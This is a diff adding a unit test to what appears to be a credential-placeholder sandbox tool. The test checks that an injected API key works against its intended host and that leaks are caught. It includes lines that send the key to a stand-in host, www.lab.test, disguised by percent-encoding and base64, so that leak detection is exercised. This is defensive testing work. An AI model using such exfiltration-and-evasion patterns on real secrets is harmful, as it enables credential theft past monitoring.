@@ -468,6 +468,27 @@ class Placeholder(Box):
         self.assertEqual(self.authorizations(path="/v2"), ["Bearer " + SECRET])
         self.assertNotIn("placeholder-leak", json.dumps(box.events(FINDING)))
 
+    def test_of_a_shape(self):
+        """The policy's shape: it works, is found where it does not belong, is another one in each sandbox, and explained."""
+        text = policy(*RULES, credentials=file_credential(rest='inject: bearer, env: API_KEY, placeholder: "github_pat_...", placeholder-length: 93'))
+        seen = set()
+        for _ in range(2):
+            box = self.sandbox(text)
+            value = box.sh("printf %s $API_KEY").out
+            self.assertRegex(value, "^github_pat_vethguard[0-9a-f]{73}$")
+            seen.add(value)
+            out = self.py("import os\nprint(fetch('api.lab.test', '/whoami', fields=('Authorization: token ' + os.environ['API_KEY'],))[2].decode())", box)
+            self.assertTrue(json.loads(out)["authenticated"])
+            self.assertEqual(box.events(FINDING), [])
+            self.py("import os, base64\nk = os.environ['API_KEY']\nfetch('www.lab.test', '/p?k=' + k.replace('_', '%5f'))\n"
+                    "fetch('www.lab.test', '/p', fields=('X: ' + base64.b64encode(b'ab' + k.encode()).decode(),))", box)
+            box.close()
+            self.assertEqual([e["finding_info"]["types"] for e in box.events(FINDING)], 2 * [["placeholder-leak"]])
+        self.assertEqual(len(seen), 2)
+        r = subprocess.run([VETHGUARD, "policy", "explain", support.LAB.write("shape.yaml", text), "GET", "https://api.lab.test/x"],
+                           capture_output=True, text=True, timeout=60 * SLOW)
+        self.assertIn("credential: api\nplaceholder: github_pat_..., 93 bytes\n", r.stdout)
+
     def test_differs_between_sandboxes(self):
         values = set()
         for _ in range(3):
